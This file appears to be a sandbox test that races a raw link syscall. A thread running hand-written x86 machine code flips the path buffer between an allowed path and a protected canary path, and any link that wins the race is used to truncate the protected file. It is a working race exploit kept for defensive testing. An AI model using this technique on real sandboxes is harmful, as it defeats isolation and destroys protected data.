# SPDX-License-Identifier: Apache-2.0
# tries: rewrite the source of a hard link while the call is on its way (S01, S29)
# proof: changed
# options: --allow-read=@WORK@ --allow-write=@WORK@
# expect: link write allow * @WORK@/file
# expect: link write deny EACCES @CANARY@/file
#
# Won once, this gives the protected file a second name where the script may write, for good: no
# further race is needed.  Without a jail the control wins at once.

import ctypes
import mmap
import os
import threading
import time

SYS_link = 86
SECONDS = 1

# void flip(text, a, b, size, stop): now one, now the other, until *stop is set
CODE = bytes.fromhex('4989f9 4989ca'         # mov r9, rdi; mov r10, rcx
                     '4c89cf 4c89d1 f3a4'    # mov rdi, r9; mov rcx, r10; rep movsb
                     '4c29d6 4887f2'         # sub rsi, r10; xchg rsi, rdx
                     'b964000000 f390 e2fc'  # mov ecx, 100; pause; loop
                     '41833800 74e3 c3')     # cmp dword [r8], 0; je to the second line; ret
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
flip = ctypes.CFUNCTYPE(None, ctypes.c_void_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_size_t,
                        ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(page)))

libc = ctypes.CDLL(None)
try:
    open('@WORK@/file', 'w').close()
except OSError:
    pass
allowed, protected = b'@WORK@/file', b'@CANARY@/file'
size = max(len(allowed), len(protected))
path, stop = ctypes.create_string_buffer(size + 1), ctypes.c_int(0)
thread = threading.Thread(target=flip, args=(ctypes.addressof(path), allowed.rjust(size, b'/'),
                                             protected.rjust(size, b'/'), size,
                                             ctypes.addressof(stop)))
thread.start()
end = time.monotonic() + SECONDS
while time.monotonic() < end:
    if libc.syscall(SYS_link, path, b'@WORK@/alias') == 0:
        os.truncate('@WORK@/alias', 0)
        os.unlink('@WORK@/alias')
stop.value = 1
thread.join()
